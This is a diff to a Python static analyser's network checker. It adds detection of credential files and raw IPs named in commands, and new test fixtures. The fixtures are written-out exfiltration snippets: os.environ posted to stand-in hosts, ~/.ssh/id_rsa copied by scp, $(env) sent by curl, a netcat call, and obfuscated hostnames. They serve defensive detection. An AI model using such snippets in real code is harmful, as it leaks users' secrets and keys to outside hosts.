@@ -325,13 +325,19 @@ class NetworkChecker(PythonChecker):
             sources.insert(0, f"the whole environment (`{facts.env_source}` in the command, line "
                               f"{self.flow.line(call)})")
         sources += [f"{s} (in the command)" for s in facts.secret_sources]
+        if facts.tools and not facts.secret_sources:
+            path = self.flow.credential_path(command)
+            if path:
+                sources.append(f"credential file {path} (named in the command)")
         if sources and (facts.uploads or facts.tools or facts.dev_tcp):
             self.report(call, "BDL402", f"{', '.join(sources[:3])} is sent out by `{tool}` via {label} "
                         f"(line {self.flow.line(call)}): whoever runs that endpoint receives it")
-        for url in facts.urls[:3]:
-            parts = split_url(url, "http")
-            if not parts:
+        targets = [split_url(url, "http") for url in facts.urls[:3]] + [(ip, "") for ip in facts.ips[:2]]
+        reported = set()
+        for parts in targets:
+            if not parts or parts[0] in reported:
                 continue
+            reported.add(parts[0])
             ip, service = raw_ip(parts[0]), exfil_service(parts[0], parts[1])
             if ip or service:
                 what = f"the raw IP address {ip}" if ip else f"{parts[0]}, a {service}"
@@ -523,6 +529,12 @@ class NetworkChecker(PythonChecker):
                 '    s.sendall(repr(os.environ).encode())\n', "BDL402", 5),
         Invalid('import os, smtplib\ndef f():\n    with smtplib.SMTP("mail.example") as m:\n'
                 '        m.sendmail("a@x", ["b@y"], str(dict(os.environ)))\n', "BDL402", 4),
+        Invalid('import os, requests\nOPTS = {"json": dict(os.environ), "timeout": 3}\ndef f(url):\n'
+                '    requests.post(url, **OPTS)\n', "BDL402", 4),
+        Invalid('import os, json, http.client\ndef f():\n    conn = http.client.HTTPSConnection("c.example")\n'
+                '    conn.request("POST", "/", body=json.dumps({**os.environ}))\n', "BDL402", 4),
+        Invalid('import os, subprocess\ndef f():\n    subprocess.check_call(["scp", os.path.expanduser("~/.ssh/id_rsa"), '
+                '"b@backup.example:/k"])\n', "BDL402", 3),
         # the seed example: environment sent by curl from Python
         Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
                 'shell=True)\n', "BDL402", 2),
@@ -539,6 +551,10 @@ class NetworkChecker(PythonChecker):
         Invalid('import requests\ndef f():\n    requests.get("https://" + "elpmaxe.live"[::-1])\n', "BDL403", 3),
         Invalid('import requests\ndef f():\n    requests.get(bytes.fromhex("687474703a2f2f652e78").decode())\n', "BDL403", 3),
         Invalid('import requests\ndef f(d):\n    requests.post("http://203.0.113.9:8080/up", data=d)\n', "BDL403", 3),
+        Invalid('import codecs, http.client\ndef f():\n    h = codecs.decode("pbyyrpg.rknzcyr", "rot13")\n'
+                '    return http.client.HTTPSConnection(h)\n', "BDL403", 4),
+        Invalid('import subprocess\ndef f():\n    subprocess.run(["nc", "198.51.100.4", "9000"], input=b"x")\n',
+                "BDL403", 3),
         Invalid('import requests\ndef f(d):\n    requests.post("https://webhook.site/0b1c2d", data=d)\n', "BDL403", 3),
         Invalid('import subprocess\ndef f():\n    subprocess.run(["curl", "-s", "https://x.oastify.com/a"])\n', "BDL403", 3),
         # BDL404: DNS exfiltration, through a helper that hex-encodes
